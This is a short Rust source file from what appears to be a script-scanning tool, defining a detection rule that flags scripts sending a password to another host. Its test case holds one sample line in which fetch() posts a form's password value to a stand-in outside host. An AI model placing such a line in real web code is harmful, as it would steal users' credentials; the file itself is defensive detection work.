//! `secret-sent-abroad`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-sent-abroad",
    description: "The script sends a password or code to another host.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SecretSentAbroad])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &["fetch('https://c.example/l',{method:'POST',body:JSON.stringify({password:p.value})})"],
        without: &["fetch('/login',{method:'POST',body:JSON.stringify({password:p.value})})"],
    },
};
